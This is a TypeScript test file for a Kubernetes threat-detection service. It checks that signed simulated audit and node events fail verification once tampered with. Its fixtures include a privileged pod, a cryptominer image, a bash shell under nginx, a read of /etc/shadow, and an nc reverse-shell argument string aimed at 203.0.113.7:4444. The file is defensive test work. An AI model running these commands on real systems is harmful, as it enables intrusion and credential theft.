import { type AuditRecord } from '../../../shared/kubernetes/auditEvent';
import { decodeAuditInput } from '../../../shared/kubernetes/decodeAuditInput';
import { auditEvent } from '../../../shared/detection/exampleEvents';
import { packDiagnosticRecords } from '../../../shared/messaging/packDiagnosticRecords';
import { packNodeEvents } from '../../../shared/messaging/packNodeEvents';
import { decodeNodeInput } from '../../../shared/node/decodeNodeInput';
import { falcoAlertEvent, fileAccessEvent, processExecEvent } from '../../../shared/node/exampleNodeEvents';
import { type NodeRecord } from '../../../shared/node/nodeEvent';
import { normalizeNodeEvent } from '../../../shared/node/normalizeNodeEvent';
import { simulatedClusterOf } from '../../../shared/simulation/simulatedCluster';
import {
  generateSimulationSigningKey,
  NODE_SIMULATION_ID_FIELD,
  NODE_SIMULATION_SIGNATURE_FIELD,
  SIMULATION_ID_ANNOTATION,
  SIMULATION_SIGNATURE_ANNOTATION,
  signSimulatedEvent,
  simulatedEventContentOf,
  simulatedNodeContentOf,
  verifySimulatedRecord,
} from '../../../shared/simulation/simulationSignature';

const SUB = '6b1e0c3d-2f4a-4b5c-8d6e-7f8091a2b3c4';
const CLUSTER = simulatedClusterOf(SUB);
const KEY = generateSimulationSigningKey();
const SIMULATION_ID = 'sim-2026-11-02-a';
const AUDIT_ID = '0f5c2a7e-1b3d-8c4e-9a6f-2d7e8f9a0b1c';
const TIME = '2026-11-02T10:20:00.000001Z';
/** The event every signed test event is: a privileged pod created in default. */
const EVENT = auditEvent({
  verb: 'create',
  resource: 'pods',
  namespace: 'default',
  auditID: AUDIT_ID,
  time: TIME,
  requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'web' }, spec: { containers: [{ name: 'web', image: 'nginx', securityContext: { privileged: true } }] } },
});
const CONTENT = simulatedEventContentOf(EVENT);

/** A simulated event as the build makes it: signed for its own fields, with the example's annotations kept. */
function signedEvent(overrides: { simulationId?: string; signature?: string } = {}): Record<string, unknown> {
  const event = EVENT;
  const signature =
    overrides.signature ??
    signSimulatedEvent(KEY, { simulationId: SIMULATION_ID, eventId: AUDIT_ID, clusterResourceId: CLUSTER.resourceId, time: TIME, content: CONTENT });
  return {
    ...event,
    annotations: {
      ...(event.annotations as Record<string, string>),
      [SIMULATION_ID_ANNOTATION]: overrides.simulationId ?? SIMULATION_ID,
      [SIMULATION_SIGNATURE_ANNOTATION]: signature,
    },
  };
}

/** What ingestion sees: the event packed as an AKS diagnostic record of the cluster, then decoded. */
function ingested(event: Record<string, unknown>, resourceId = CLUSTER.resourceId): AuditRecord {
  const { messages } = packDiagnosticRecords([event], { resourceId, nowUtc: TIME });
  const { records, skipped } = decodeAuditInput(messages[0]);
  expect(skipped).toEqual([]);
  const [record] = records;
  if (record === undefined) throw new Error('no record decoded');
  return record;
}

describe('signSimulatedEvent', () => {
  it('when an event is signed, then the signature is 32 bytes of base64url without padding, and the same fields sign the same', () => {
    const fields = { simulationId: SIMULATION_ID, eventId: AUDIT_ID, clusterResourceId: CLUSTER.resourceId, time: TIME, content: CONTENT };
    const signature = signSimulatedEvent(KEY, fields);
    expect(signature).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(Buffer.from(signature, 'base64url')).toHaveLength(32);
    expect(signSimulatedEvent(KEY, { ...fields })).toBe(signature);
  });

  it('when the cluster is written upper-case, then it signs the same as its canonical form', () => {
    const fields = { simulationId: SIMULATION_ID, eventId: AUDIT_ID, clusterResourceId: CLUSTER.resourceId, time: TIME, content: CONTENT };
    expect(signSimulatedEvent(KEY, { ...fields, clusterResourceId: CLUSTER.resourceId.toUpperCase() })).toBe(signSimulatedEvent(KEY, fields));
  });

  it('when a character moves from one field to its neighbour, then the signature differs', () => {
    const base = { clusterResourceId: CLUSTER.resourceId, time: TIME, content: CONTENT };
    expect(signSimulatedEvent(KEY, { ...base, simulationId: 'ab', eventId: 'c' })).not.toBe(signSimulatedEvent(KEY, { ...base, simulationId: 'a', eventId: 'bc' }));
    expect(signSimulatedEvent(KEY, { ...base, simulationId: 'a\n1:b', eventId: 'c' })).not.toBe(
      signSimulatedEvent(KEY, { ...base, simulationId: 'a', eventId: 'b\n1:c' }),
    );
  });

  it('when the key is shorter than 32 bytes, then signing throws', () => {
    expect(() =>
      signSimulatedEvent(new Uint8Array(16), { simulationId: SIMULATION_ID, eventId: AUDIT_ID, clusterResourceId: CLUSTER.resourceId, time: TIME, content: CONTENT }),
    ).toThrow(RangeError);
  });
});

describe('generateSimulationSigningKey', () => {
  it('when keys are generated, then each has 32 bytes and they differ', () => {
    const keys = Array.from({ length: 20 }, () => generateSimulationSigningKey());
    expect(keys.every((key) => key.length === 32)).toBe(true);
    expect(new Set(keys.map((key) => Buffer.from(key).toString('hex'))).size).toBe(20);
  });
});

describe('verifySimulatedRecord (audit events)', () => {
  it('when a signed event is packed and decoded as ingestion does, then the record verifies', () => {
    const record = ingested(signedEvent());
    expect(record.cluster).toEqual(CLUSTER);
    expect(record.event.requestReceivedTimestamp).toBe(TIME);
    expect(verifySimulatedRecord(KEY, record)).toBe(true);
  });

  it('when the record arrives with the cluster id upper-case, then it still verifies (the decoder canonicalizes it)', () => {
    expect(verifySimulatedRecord(KEY, ingested(signedEvent(), CLUSTER.resourceId.toUpperCase()))).toBe(true);
  });

  it.each<[string, (event: Record<string, unknown>) => Record<string, unknown>]>([
    ['the audit id', (event) => ({ ...event, auditID: '1f5c2a7e-1b3d-8c4e-9a6f-2d7e8f9a0b1c' })],
    ['the request time (a microsecond later)', (event) => ({ ...event, requestReceivedTimestamp: '2026-11-02T10:20:00.000002Z' })],
    ['the request time (the same instant written differently)', (event) => ({ ...event, requestReceivedTimestamp: '2026-11-02T10:20:00.000001+00:00' })],
    ['the simulation id annotation', (event) => ({ ...event, annotations: { ...(event.annotations as object), [SIMULATION_ID_ANNOTATION]: 'sim-other' } })],
    ['the verb', (event) => ({ ...event, verb: 'delete' })],
    ['the request URI', (event) => ({ ...event, requestURI: '/api/v1/namespaces/kube-system/pods' })],
    ['the user', (event) => ({ ...event, user: { username: 'mallory', groups: ['system:authenticated'] } })],
    ['the request object', (event) => ({ ...event, requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'miner' }, spec: { containers: [{ name: 'x', image: 'xmrig/xmrig' }] } } })],
  ])('when %s is changed after signing, then the record does not verify', (_field, change) => {
    expect(verifySimulatedRecord(KEY, ingested(change(signedEvent())))).toBe(false);
  });

  it.each([
    ['the same names as an AKS cluster', `/subscriptions/${SUB}/resourceGroups/argus-simulation/providers/Microsoft.ContainerService/managedClusters/argus-simulated-cluster`],
    ['the simulated cluster of another subscription', simulatedClusterOf('11111111-2222-4333-8444-555555555555').resourceId],
    ['a real cluster', `/subscriptions/${SUB}/resourceGroups/prod/providers/Microsoft.ContainerService/managedClusters/aks-prod`],
  ])('when the signed event is sent as from %s, then the record does not verify', (_case, resourceId) => {
    expect(verifySimulatedRecord(KEY, ingested(signedEvent(), resourceId))).toBe(false);
  });

  it('when the record is checked with another key, then it does not verify', () => {
    expect(verifySimulatedRecord(generateSimulationSigningKey(), ingested(signedEvent()))).toBe(false);
  });

  it('when the key is too short to have signed anything, then nothing verifies', () => {
    expect(verifySimulatedRecord(new Uint8Array(0), ingested(signedEvent()))).toBe(false);
  });

  it.each([
    ['empty', ''],
    ['garbage', 'not a signature'],
    ['too short', signSimulatedEvent(KEY, { simulationId: SIMULATION_ID, eventId: AUDIT_ID, clusterResourceId: CLUSTER.resourceId, time: TIME, content: CONTENT }).slice(0, 42)],
    ['standard base64 with padding', Buffer.alloc(32, 7).toString('base64')],
    ['all zeros', Buffer.alloc(32).toString('base64url')],
  ])('when the signature is %s, then the record does not verify', (_case, signature) => {
    expect(verifySimulatedRecord(KEY, ingested(signedEvent({ signature })))).toBe(false);
  });

  it('when the simulation id annotation is empty, then the record does not verify even with a signature made for an empty id', () => {
    const signature = signSimulatedEvent(KEY, { simulationId: '', eventId: AUDIT_ID, clusterResourceId: CLUSTER.resourceId, time: TIME, content: CONTENT });
    expect(verifySimulatedRecord(KEY, ingested(signedEvent({ simulationId: '', signature })))).toBe(false);
  });

  it.each([SIMULATION_ID_ANNOTATION, SIMULATION_SIGNATURE_ANNOTATION])('when the annotation %s is missing, then the record does not verify', (name) => {
    const event = signedEvent();
    const { [name]: _removed, ...annotations } = event.annotations as Record<string, string>;
    expect(verifySimulatedRecord(KEY, ingested({ ...event, annotations }))).toBe(false);
  });

  it('when a real event without simulation annotations arrives from the reserved cluster, then it does not verify', () => {
    const real = auditEvent({ verb: 'create', resource: 'pods', namespace: 'default', auditID: AUDIT_ID, time: TIME });
    const record = ingested(real);
    expect(record.event.annotations[SIMULATION_SIGNATURE_ANNOTATION]).toBeUndefined();
    expect(verifySimulatedRecord(KEY, record)).toBe(false);
  });
});

const NODE_TIME = '2026-11-02T10:20:00.000002000Z';
/** A reverse shell in the example pod: what the node examples look like. */
const SHELL = processExecEvent({ binary: '/bin/bash', arguments: '-i', parent: { binary: '/usr/sbin/nginx' } });
/** A read of /etc/shadow: an event with a hook and its arguments. */
const SHADOW_READ = fileAccessEvent({ path: '/etc/shadow', process: { binary: '/bin/cat', arguments: '/etc/shadow' } });
const FALCO = falcoAlertEvent({ rule: 'Terminal shell in container', priority: 'Notice' });

/** A node example as the simulation sends it: at its own time in the simulated cluster, signed for what the decoder will read. */
function signedNodeEvent(raw: Record<string, unknown>, options: { key?: Uint8Array; simulationId?: string } = {}): Record<string, unknown> {
  const simulationId = options.simulationId ?? SIMULATION_ID;
  const stamped = { ...raw, cluster_resource_id: CLUSTER.resourceId, time: NODE_TIME };
  const normalized = normalizeNodeEvent(stamped);
  if (!normalized.ok) throw new Error(`not a node event: ${normalized.detail}`);
  const { event } = normalized;
  const signature = signSimulatedEvent(options.key ?? KEY, {
    simulationId,
    eventId: event.id,
    clusterResourceId: CLUSTER.resourceId,
    time: event.time,
    content: simulatedNodeContentOf(event),
  });
  return { ...stamped, [NODE_SIMULATION_ID_FIELD]: simulationId, [NODE_SIMULATION_SIGNATURE_FIELD]: signature };
}

/** What node ingestion sees: the event packed as the node-events hub carries it for the cluster, then decoded. */
function ingestedNode(event: Record<string, unknown>, resourceId = CLUSTER.resourceId): NodeRecord {
  const { messages } = packNodeEvents([event], { resourceId });
  const { records, skipped } = decodeNodeInput(messages[0]);
  expect(skipped).toEqual([]);
  const [record] = records;
  if (record === undefined) throw new Error('no node record decoded');
  return record;
}

/** A deep copy of the raw event with the value at `path` replaced. */
function changed(event: Record<string, unknown>, path: readonly (string | number)[], value: unknown): Record<string, unknown> {
  const copy = structuredClone(event);
  let target = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) target = target[key] as Record<string | number, unknown>;
  target[path[path.length - 1] as string | number] = value;
  return copy;
}

describe('verifySimulatedRecord (node events)', () => {
  it.each([
    ['a Tetragon process_exec', SHELL],
    ['a Tetragon kprobe with arguments', SHADOW_READ],
    ['a Falco alert', FALCO],
  ])('when %s is signed, packed and decoded as node ingestion does, then the record carries the simulation and verifies', (_case, raw) => {
    const record = ingestedNode(signedNodeEvent(raw));
    expect(record.cluster).toEqual(CLUSTER);
    expect(record.event.simulation?.id).toBe(SIMULATION_ID);
    expect(verifySimulatedRecord(KEY, record)).toBe(true);
  });

  it('when the record arrives with the cluster id upper-case, then it still verifies', () => {
    expect(verifySimulatedRecord(KEY, ingestedNode(signedNodeEvent(SHELL), CLUSTER.resourceId.toUpperCase()))).toBe(true);
  });

  it.each<[string, Record<string, unknown>, readonly (string | number)[], unknown]>([
    ['the binary', SHELL, ['process_exec', 'process', 'binary'], '/usr/bin/nc'],
    ['the arguments', SHELL, ['process_exec', 'process', 'arguments'], '-e /bin/sh 203.0.113.7 4444'],
    ['the pod', SHELL, ['process_exec', 'process', 'pod', 'name'], 'payments-5f7d8c9b6-q2w3e'],
    ['the pod namespace', SHELL, ['process_exec', 'process', 'pod', 'namespace'], 'kube-system'],
    ['the container image', SHELL, ['process_exec', 'process', 'pod', 'container', 'image', 'name'], 'docker.io/library/busybox:1.36'],
    ['the node', SHELL, ['node_name'], 'aks-nodepool1-12345678-vmss000001'],
    ['the time (a microsecond later)', SHELL, ['time'], '2026-11-02T10:20:00.000003000Z'],
    ['the simulation id', SHELL, [NODE_SIMULATION_ID_FIELD], 'sim-other'],
    ["the hook's arguments", SHADOW_READ, ['process_kprobe', 'args', 0, 'file_arg', 'path'], '/etc/passwd'],
    ["the hook's function", SHADOW_READ, ['process_kprobe', 'function_name'], 'security_file_open'],
    ['the Falco rule', FALCO, ['rule'], 'Read sensitive file untrusted'],
    ['the Falco output', FALCO, ['output'], 'something else entirely'],
  ])('when %s is changed after signing, then the record does not verify', (_field, raw, path, value) => {
    expect(verifySimulatedRecord(KEY, ingestedNode(changed(signedNodeEvent(raw), path, value)))).toBe(false);
  });

  it.each([
    ['the simulated cluster of another subscription', simulatedClusterOf('11111111-2222-4333-8444-555555555555').resourceId],
    ['a real cluster', `/subscriptions/${SUB}/resourceGroups/prod/providers/Microsoft.ContainerService/managedClusters/aks-prod`],
  ])('when the signed event is sent as from %s, then the record does not verify', (_case, resourceId) => {
    expect(verifySimulatedRecord(KEY, ingestedNode(signedNodeEvent(SHELL), resourceId))).toBe(false);
  });

  it('when the record is checked with another key, or a key too short to have signed anything, then it does not verify', () => {
    const record = ingestedNode(signedNodeEvent(SHELL));
    expect(verifySimulatedRecord(generateSimulationSigningKey(), record)).toBe(false);
    expect(verifySimulatedRecord(new Uint8Array(0), record)).toBe(false);
  });

  it('when the event was signed with another key, then it does not verify with the service key', () => {
    expect(verifySimulatedRecord(KEY, ingestedNode(signedNodeEvent(SHELL, { key: generateSimulationSigningKey() })))).toBe(false);
  });

  it('when a real node event without the simulation fields arrives, then it is not simulated', () => {
    const record = ingestedNode({ ...SHELL, time: NODE_TIME });
    expect(record.event.simulation).toBeUndefined();
    expect(verifySimulatedRecord(KEY, record)).toBe(false);
  });

  it.each([
    ['empty', ''],
    ['garbage', 'not a signature'],
    ['all zeros', Buffer.alloc(32).toString('base64url')],
  ])('when the node signature is %s, then the record does not verify', (_case, signature) => {
    const record = ingestedNode({ ...signedNodeEvent(SHELL), [NODE_SIMULATION_SIGNATURE_FIELD]: signature });
    expect(verifySimulatedRecord(KEY, record)).toBe(false);
  });

  it('when the simulation id is empty, then the record does not verify even with a signature made for an empty id', () => {
    expect(verifySimulatedRecord(KEY, ingestedNode(signedNodeEvent(SHELL, { simulationId: '' })))).toBe(false);
  });
});
